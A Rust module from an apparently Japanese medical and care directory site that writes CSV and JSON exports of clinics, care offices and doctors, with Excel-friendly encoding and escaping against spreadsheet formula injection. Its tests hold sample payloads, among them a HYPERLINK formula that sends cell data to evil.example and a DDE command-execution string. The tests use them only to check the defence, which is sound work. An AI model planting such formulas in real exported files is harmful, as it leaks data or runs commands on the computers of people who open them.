//! Open data exports: `/data/partners.csv`, `/data/care.csv`, `/data/doctors.csv` and the same
//! as JSON, so 医師会, 市役所 and partner offices can reuse the directory without retyping it.
//!
//! CSV is what Japanese offices open in Excel, so it is UTF-8 *with* BOM (without it Excel reads
//! CP932 and shows mojibake), CRLF line ends and RFC 4180 quoting. Headers are Japanese and
//! documented in docs/exports.md. Only what the build profile may show is exported: the records
//! hold no `internal` values, and `partners_only` values exist only in the partners profile.

use crate::pipeline::output::OutFile;
use crate::records::meta::Extra;
use crate::site::Site;

/// True for a cell Excel or LibreOffice would run as a formula: one starting with `=`, `+`,
/// `-`, `@`, a tab or a carriage return (OWASP's list), unless it is a plain number such as
/// a negative coordinate, which a spreadsheet reads as a number anyway.
pub fn is_formula_like(value: &str) -> bool {
    value.starts_with(['=', '+', '-', '@', '\t', '\r'])
        && value.trim().parse::<f64>().is_err()
        // A lone 「-」 is how sheets write "none"; no spreadsheet runs it.
        && value.trim() != "-"
}

/// One CSV field: a formula-like value is prefixed with `'` (a spreadsheet then shows it as
/// text, the value still readable: `=HYPERLINK(…)` arrives as `'=HYPERLINK(…)`), and a field
/// with a comma, quote or line break is quoted (RFC 4180).
pub fn csv_field(value: &str) -> String {
    let mut out = String::new();
    push_csv_field(&mut out, value);
    out
}

/// [`csv_field`] appended to `out`, with no string of its own per field: an export writes
/// about two million fields at 100k records.
fn push_csv_field(out: &mut String, value: &str) {
    let prefix = if is_formula_like(value) { "'" } else { "" };
    if value.contains([',', '"', '\n', '\r']) {
        out.push('"');
        out.push_str(prefix);
        for (i, part) in value.split('"').enumerate() {
            if i > 0 {
                out.push_str("\"\"");
            }
            out.push_str(part);
        }
        out.push('"');
    } else {
        out.push_str(prefix);
        out.push_str(value);
    }
}

/// A whole CSV file: BOM, header, rows, CRLF after every record.
pub fn csv(header: &[&str], rows: &[Vec<String>]) -> String {
    // Sized once: at 100k records the file is tens of MB, which growing by doubling copies
    // into fresh memory again and again.
    let size: usize = rows.iter().flatten().map(|f| f.len() + 1).sum();
    let mut out = String::with_capacity(size + size / 32 + 4 * rows.len() + 1024);
    out.push('\u{feff}');
    push_csv_line(&mut out, header.iter().copied());
    for row in rows {
        push_csv_line(&mut out, row.iter().map(String::as_str));
    }
    out
}

fn push_csv_line<'a>(out: &mut String, fields: impl Iterator<Item = &'a str>) {
    for (i, field) in fields.enumerate() {
        if i > 0 {
            out.push(',');
        }
        push_csv_field(out, field);
    }
    out.push_str("\r\n");
}

fn opt<T: ToString>(v: &Option<T>) -> String {
    v.as_ref().map(ToString::to_string).unwrap_or_default()
}

fn extras(e: &[Extra]) -> String {
    e.iter()
        .map(|x| format!("{}: {}", x.label, x.value))
        .collect::<Vec<_>>()
        .join("; ")
}

fn geo(g: Option<[f64; 2]>, i: usize) -> String {
    g.map(|g| g[i].to_string()).unwrap_or_default()
}

const PARTNER_HEADER: &[&str] = &[
    "名称",
    "よみ",
    "種別",
    "診療科",
    "地区",
    "郵便番号",
    "住所",
    "電話番号",
    "FAX番号",
    "ホームページ",
    "院長・管理者",
    "対応可能な診療・検査",
    "登録医療機関",
    "病床数",
    "医療情報ネットID",
    "緯度",
    "経度",
    "情報更新日",
    "ページURL",
];
const CARE_HEADER: &[&str] = &[
    "名称",
    "よみ",
    "介護サービスの種類",
    "介護保険事業所番号",
    "運営法人",
    "地区",
    "郵便番号",
    "住所",
    "電話番号",
    "FAX番号",
    "ホームページ",
    "定員",
    "新規受入れ",
    "緯度",
    "経度",
    "情報更新日",
    "ページURL",
];
const DOCTOR_HEADER: &[&str] = &[
    "氏名",
    "よみ",
    "勤務先",
    "診療科",
    "専門・得意分野",
    "登録日",
    "共同診療",
    "勤務先ページURL",
    "ページURL",
];
/// Extra column of the partners profile.
const PARTNERS_ONLY_HEADER: &str = "連携医療機関向け情報";

/// All export files of the site.
/// One record of a JSON export, written as an object straight from its row: building a JSON
/// value per field first cost half a GB of small allocations at 100k records.
struct JsonRow<'a> {
    header: &'a [&'a str],
    order: &'a [usize],
    row: &'a [String],
}

impl serde::Serialize for JsonRow<'_> {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        use serde::ser::SerializeMap;
        let mut map = s.serialize_map(Some(self.order.len()))?;
        for &i in self.order {
            map.serialize_entry(self.header[i], self.row.get(i).map_or("", String::as_str))?;
        }
        map.end()
    }
}

pub fn exports(
    site: &Site,
    emit: &mut (dyn FnMut(Vec<OutFile>) -> std::io::Result<()> + '_),
) -> std::io::Result<()> {
    let urls = &site.config.urls;
    let abs = |u: &str| urls.absolute(u.strip_prefix(urls.prefix()).unwrap_or(u));
    let partners_profile = site.profile == crate::records::meta::Profile::Partners;
    let with_extra = |mut header: Vec<&'static str>| {
        if partners_profile {
            header.push(PARTNERS_ONLY_HEADER);
        }
        header
    };

    // The partners profile's last column; the public profile has neither column nor values.
    let finish = |mut row: Vec<String>, meta: &crate::records::meta::Meta| {
        if partners_profile {
            row.push(extras(&meta.partners_only));
        }
        row
    };
    let partner_rows = || -> Vec<Vec<String>> {
        site.partners
            .iter()
            .map(|p| {
                let row = vec![
                    p.place.name.clone(),
                    p.place.yomi.clone(),
                    p.kind_label.to_string(),
                    p.departments.join("、"),
                    p.place.area.clone(),
                    p.place.postal.clone(),
                    p.place.address.clone(),
                    opt(&p.place.tel.as_ref().map(|t| &t.display)),
                    opt(&p.place.fax.as_ref().map(|t| &t.display)),
                    opt(&p.place.url),
                    opt(&p.director.as_ref().map(|d| &d.name)),
                    p.services.join("、"),
                    if p.registered { "○" } else { "" }.to_string(),
                    opt(&p.beds),
                    opt(&p.navii_id),
                    geo(p.place.geo, 0),
                    geo(p.place.geo, 1),
                    opt(&p.place.updated),
                    abs(&p.meta.url),
                ];
                finish(row, &p.meta)
            })
            .collect()
    };
    let care_rows = || -> Vec<Vec<String>> {
        site.care
            .iter()
            .map(|c| {
                let row = vec![
                    c.place.name.clone(),
                    c.place.yomi.clone(),
                    c.services.join("、"),
                    opt(&c.office_number),
                    opt(&c.operator),
                    c.place.area.clone(),
                    c.place.postal.clone(),
                    c.place.address.clone(),
                    opt(&c.place.tel.as_ref().map(|t| &t.display)),
                    opt(&c.place.fax.as_ref().map(|t| &t.display)),
                    opt(&c.place.url),
                    opt(&c.capacity),
                    c.accepting
                        .map(|a| if a { "可" } else { "停止中" })
                        .unwrap_or("")
                        .to_string(),
                    geo(c.place.geo, 0),
                    geo(c.place.geo, 1),
                    opt(&c.place.updated),
                    abs(&c.meta.url),
                ];
                finish(row, &c.meta)
            })
            .collect()
    };
    let doctor_rows = || -> Vec<Vec<String>> {
        site.doctors
            .iter()
            .enumerate()
            .map(|(i, d)| {
                let clinic = &site.partners[site.partner_of_doctor[i]];
                let row = vec![
                    d.name.clone(),
                    d.yomi.clone(),
                    clinic.place.name.clone(),
                    d.departments.join("、"),
                    d.specialties.join("、"),
                    opt(&d.registered_since),
                    if d.co_treatment { "○" } else { "" }.to_string(),
                    abs(&clinic.meta.url),
                    abs(&d.meta.url),
                ];
                finish(row, &d.meta)
            })
            .collect()
    };

    let json_rows = |header: &[&str], rows: &[Vec<String>]| -> String {
        // Keys in the order the file has always had them (serde_json's map sorts them).
        let mut order: Vec<usize> = (0..header.len()).collect();
        order.sort_by_key(|&i| header[i]);
        let records: Vec<JsonRow> = rows
            .iter()
            .map(|row| JsonRow {
                header,
                order: &order,
                row,
            })
            .collect();
        // Sized once, as the CSV is (an indented key, quotes, `: ` and `,` per field); the
        // final newline too, which at exactly full capacity would copy the whole file again.
        let keys: usize = header.iter().map(|h| h.len() + 12).sum();
        let values: usize = rows.iter().flatten().map(String::len).sum();
        let mut out = Vec::with_capacity(values + values / 16 + rows.len() * (keys + 16) + 16);
        if serde_json::to_writer_pretty(&mut out, &records).is_err() {
            return "[]\n".into();
        }
        out.push(b'\n');
        // serde_json writes UTF-8 only; the fallback cannot be reached.
        String::from_utf8(out).unwrap_or_else(|_| "[]\n".into())
    };
    // One table at a time, made, written and dropped: at 100k records each is tens of MB.
    type Rows<'a> = &'a dyn Fn() -> Vec<Vec<String>>;
    let tables: [(&str, Vec<&str>, Rows); 3] = [
        (
            "partners",
            with_extra(PARTNER_HEADER.to_vec()),
            &partner_rows,
        ),
        ("care", with_extra(CARE_HEADER.to_vec()), &care_rows),
        ("doctors", with_extra(DOCTOR_HEADER.to_vec()), &doctor_rows),
    ];
    for (name, header, rows) in tables {
        let rows = rows();
        emit(vec![
            OutFile::text(format!("data/{name}.csv"), csv(&header, &rows)),
            OutFile::text(format!("data/{name}.json"), json_rows(&header, &rows)),
        ])?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_never_run_in_a_spreadsheet() {
        assert_eq!(
            csv_field("=HYPERLINK(\"https://evil.example/?x=\"&A2,\"詳細はこちら\")"),
            "\"'=HYPERLINK(\"\"https://evil.example/?x=\"\"&A2,\"\"詳細はこちら\"\")\""
        );
        assert_eq!(csv_field("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
        assert_eq!(csv_field("@SUM(1+1)"), "'@SUM(1+1)");
        assert_eq!(csv_field("-1+2"), "'-1+2");
        assert_eq!(csv_field("\t=1"), "'\t=1");
        assert_eq!(csv_field("\r=1"), "\"'\r=1\"");
        // Numbers and ordinary text are left as they are.
        assert_eq!(csv_field("-31.5"), "-31.5");
        assert_eq!(csv_field("099-211-1234"), "099-211-1234");
        assert_eq!(csv_field("内科=循環器"), "内科=循環器");
        assert_eq!(csv_field("-"), "-");
    }

    #[test]
    fn rfc_4180_quoting() {
        assert_eq!(csv_field("さくら内科"), "さくら内科");
        assert_eq!(csv_field("a,b"), "\"a,b\"");
        assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(csv_field("line1\nline2"), "\"line1\nline2\"");
        let file = csv(&["名称", "備考"], &[vec!["A, \"B\"".into(), "1\n2".into()]]);
        assert_eq!(file, "\u{feff}名称,備考\r\n\"A, \"\"B\"\"\",\"1\n2\"\r\n");
    }
}
